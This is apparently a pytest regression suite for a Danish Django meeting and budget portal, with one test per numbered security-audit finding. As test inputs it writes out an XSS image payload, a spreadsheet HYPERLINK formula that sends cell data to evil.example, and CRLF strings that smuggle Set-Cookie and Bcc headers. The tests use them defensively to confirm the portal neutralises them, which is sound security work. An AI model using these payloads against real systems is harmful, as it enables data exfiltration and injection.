"""Issue 14's numbered findings, one test each (the locking, login and crawl findings have their
own files: test_concurrent_editing.py, test_logins.py, test_crawl.py)."""

import csv
import io

import feedparser
import pytest
from django.urls import reverse

from meetings import services
from meetings.models import AgendaItem

XSS = '<img src=x onerror="alert(1)">'


def test_finding3_feed_summary_escapes_titles(package, client_for):
    item = AgendaItem.objects.get(pk=package["open_item"].pk)
    item.title = "Vækst " + XSS
    item.save()
    services.meeting_publish(meeting=package["meeting"])
    raw = client_for("anonymous").get(reverse("meetings:feed")).content.decode()
    feed = feedparser.parse(raw)
    summary = feed.entries[0].summary
    assert "<img" not in summary  # what a feed reader renders
    assert "&lt;img src=x onerror=" in summary
    assert "har fået ny titel: Vækst" in summary


@pytest.mark.django_db
def test_finding4_budget_csv_cells_cannot_start_a_formula(client_for):
    from budgets import demo
    from budgets.models import Line
    from meetings.demo import municipalities_ensure

    municipalities_ensure()
    demo.load_app_demo()
    line = Line.objects.filter(table__status="approved").first()
    line.label = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
    line.save()
    other = Line.objects.filter(table=line.table).exclude(pk=line.pk).first()
    other.label = "@SUM(1+1)"
    other.save()
    response = client_for("anonymous").get(reverse("budgets:table_csv", args=[line.table_id]))
    rows = list(csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff")), delimiter=";"))
    labels = [row[0] for row in rows]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Klik")' in labels
    assert "'@SUM(1+1)" in labels
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@")), cell
            if cell.startswith("-"):
                assert cell.replace(".", "").replace(",", "").lstrip("-").isdigit(), cell


def test_csv_cell_keeps_numbers_and_neutralises_formulas():
    from meetings.text import csv_cell

    assert csv_cell("-1.234,50") == "-1.234,50"
    assert csv_cell("-12.5") == "-12.5"
    assert csv_cell(-3) == -3
    assert csv_cell("-2+3") == "'-2+3"
    assert csv_cell("+45 12 34 56 78") == "'+45 12 34 56 78"
    assert csv_cell("Drift") == "Drift"


# Finding 6: the lockout cannot be turned against a user.

PROXY = "10.0.0.1"


def _login(client, username, password, client_address, via_proxy=True):
    meta = (
        {"REMOTE_ADDR": PROXY, "HTTP_X_FORWARDED_FOR": f"{client_address}"}
        if via_proxy
        else {"REMOTE_ADDR": client_address}
    )
    return client.post(reverse("login"), {"username": username, "password": password}, **meta)


def test_finding6_an_attacker_behind_the_proxy_cannot_lock_a_member_out(users, settings):
    from django.test import Client

    settings.TRUSTED_PROXIES = [PROXY]
    attacker = Client()
    for _ in range(8):
        _login(attacker, "medlem", "gæt", "203.0.113.9")
    locked = _login(attacker, "medlem", "pw-medlem", "203.0.113.9")
    assert locked.status_code == 429
    html = locked.content.decode()
    assert "midlertidigt spærret" in html and "Prøv igen kl." in html
    member = Client()
    response = _login(member, "medlem", "pw-medlem", "198.51.100.7")
    assert response.status_code == 302
    assert "_auth_user_id" in member.session


def test_finding6_forwarded_header_is_ignored_unless_from_a_trusted_proxy(users, settings):
    from django.test import Client

    from kkr_portal.throttling import client_ip

    settings.TRUSTED_PROXIES = [PROXY]
    client = Client()
    # A client that forges X-Forwarded-For is still counted under its own address.
    for n in range(6):
        client.post(
            reverse("login"),
            {"username": "medlem", "password": "gæt"},
            REMOTE_ADDR="203.0.113.9",
            HTTP_X_FORWARDED_FOR=f"192.0.2.{n}",
        )
    assert _login(client, "medlem", "pw-medlem", "203.0.113.9", via_proxy=False).status_code == 429

    class Request:
        META = {"REMOTE_ADDR": PROXY, "HTTP_X_FORWARDED_FOR": "192.0.2.1, 198.51.100.7, 10.0.0.1"}

    assert client_ip(Request) == "198.51.100.7"  # right-most address that is not a proxy


def test_finding6_one_address_trying_many_names_is_locked(users, settings):
    from django.test import Client

    settings.AXES_ADDRESS_FAILURE_LIMIT = 12
    client = Client()
    for n in range(12):
        _login(client, f"navn{n}", "gæt", "203.0.113.50", via_proxy=False)
    assert (
        _login(client, "kommune", "pw-kommune", "203.0.113.50", via_proxy=False).status_code == 429
    )
    assert (
        _login(Client(), "kommune", "pw-kommune", "203.0.113.51", via_proxy=False).status_code
        == 302
    )


# Finding 7: odd requests get 404/400, never 500; control characters never reach a header.


@pytest.mark.parametrize(
    "url, status",
    [
        ("/moedeplan/0/", 404),
        ("/moedeplan/10000/", 404),
        ("/moedeplan/99999999/", 404),
        ("/api/v1/meetings/?year=-1", 400),
        ("/api/v1/meetings/?year=0", 400),
        ("/api/v1/meetings/?year=99999999999999999999", 400),
        ("/soeg/?q=%00", 200),
    ],
)
def test_finding7_odd_parameters_are_not_server_errors(package, url, status):
    from django.test import Client

    response = Client(raise_request_exception=False).get(url)
    assert response.status_code == status, url


def test_finding7_annex_title_with_line_breaks_is_cleaned_and_downloads(package, client_for):
    from meetings.models import Annex

    annex = package["open_annex"]
    client = client_for("secretariat")
    url = reverse("admin:meetings_annex_change", args=[annex.pk])
    from tests.forms import form_data

    data = form_data(client.get(url).content.decode(), "annex_form")
    data["title"] = "Notat\r\nSet-Cookie: x=1\x07"
    assert client.post(url, data).status_code == 302
    annex = Annex.objects.get(pk=annex.pk)
    assert annex.title == "Notat Set-Cookie: x=1"
    services.meeting_publish(meeting=package["meeting"])
    url = reverse("meetings:annex_download", args=[annex.item.section.meeting_id, annex.uid])
    download = client_for("anonymous").get(url)
    assert download.status_code == 200
    assert "Notat" in download["Content-Disposition"]


def test_finding7_meeting_title_with_line_breaks_still_notifies(package, users):
    from django.core import mail

    from meetings.models import Meeting, Subscription

    user = users["municipality"]
    user.email = "kommune@example.dk"
    user.save()
    Subscription.objects.create(user=user, body=package["meeting"].body)
    meeting = Meeting.objects.get(pk=package["meeting"].pk)
    meeting.title = "KKR\r\nBcc: alle@example.dk"
    services.meeting_save(meeting=meeting)
    assert Meeting.objects.get(pk=meeting.pk).title == "KKR Bcc: alle@example.dk"
    from meetings.notifications import version_notify

    version = services.meeting_publish(meeting=meeting)
    assert version_notify(version_id=version.pk) == 1
    assert "\n" not in mail.outbox[-1].subject


# Finding 8: the stand-alone annex admin cannot add an annex (it goes through the item page).


def test_finding8_standalone_annex_admin_offers_no_add_and_writes_no_file(
    package, client_for, settings
):
    from pathlib import Path

    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.pdfs import make_pdf

    client = client_for("secretariat")
    media = Path(settings.STORAGES["default"]["OPTIONS"]["location"])
    before = sorted(media.rglob("*.pdf"))
    add_url = reverse("admin:meetings_annex_add")
    assert client.get(add_url).status_code == 403
    upload = SimpleUploadedFile("x.pdf", make_pdf(1, "X"), content_type="application/pdf")
    assert client.post(add_url, {"title": "X", "file": upload}).status_code == 403
    assert sorted(media.rglob("*.pdf")) == before
    changelist = client.get(reverse("admin:meetings_annex_changelist")).content.decode()
    assert add_url not in changelist


# Finding 9: attaching a contract or budget: approved only, never twice.


def test_finding9_budget_attach_refuses_drafts_and_never_duplicates(db, client_for):
    from budgets import demo
    from budgets.models import BudgetTable
    from meetings.demo import municipalities_ensure
    from tests.factories import ItemFactory

    municipalities_ensure()
    demo.load_app_demo()
    table = BudgetTable.objects.filter(status="approved").first()
    item = ItemFactory()
    BudgetTable.objects.filter(pk=table.pk).update(approved_by=item)
    client = client_for("secretariat")
    url = reverse("admin:budgets_budgettable_changelist")
    action = {"action": "attach", "_selected_action": [str(table.pk)]}
    client.post(url, action)
    client.post(url, action)
    assert [a.title for a in item.annexes.all()] == [table.title]
    BudgetTable.objects.filter(pk=table.pk).update(status="draft")
    other = ItemFactory()
    BudgetTable.objects.filter(pk=table.pk).update(approved_by=other)
    response = client.post(url, action, follow=True)
    assert "ikke godkendt" in response.content.decode()
    assert not other.annexes.exists()


# Finding 10: navigation that ends.


def test_finding10_meeting_plan_links_only_to_years_with_meetings(package, client_for):
    import re

    from tests.factories import MeetingFactory

    year = package["meeting"].start.year
    MeetingFactory(start=package["meeting"].start.replace(year=year + 3))  # a draft
    html = client_for("anonymous").get(reverse("meetings:meeting_plan", args=[year])).content
    nav = re.search(r'class="year-nav">(.*?)</nav>', html.decode())
    links = re.findall(r"/moedeplan/(\d+)/", nav.group(1)) if nav else []
    assert str(year + 1) not in links and str(year - 1) not in links
    assert str(year + 3) not in links  # only a draft there
    html = client_for("council_member").get(reverse("meetings:meeting_plan", args=[year]))
    assert f"/moedeplan/{year + 3}/" in html.content.decode()  # members see planned dates


def test_finding10_login_link_never_nests_next(package):
    import re

    from django.test import Client

    client = Client()
    html = client.get("/log-ind/?next=/moeder/1/").content.decode()
    links = re.findall(r'href="(/log-ind/[^"]*)"', html)
    assert links and all("log-ind%2F" not in link and "%253F" not in link for link in links)


def test_finding10_year_filter_offers_only_readable_years(package, client_for):
    from tests.factories import MeetingFactory

    year = package["meeting"].start.year
    MeetingFactory(start=package["meeting"].start.replace(year=year + 2))  # a draft
    html = client_for("anonymous").get(reverse("meetings:meeting_list")).content.decode()
    assert f'<option value="{year}"' in html
    assert f'<option value="{year + 2}"' not in html
    html = client_for("secretariat").get(reverse("meetings:meeting_list")).content.decode()
    assert f'<option value="{year + 2}"' in html
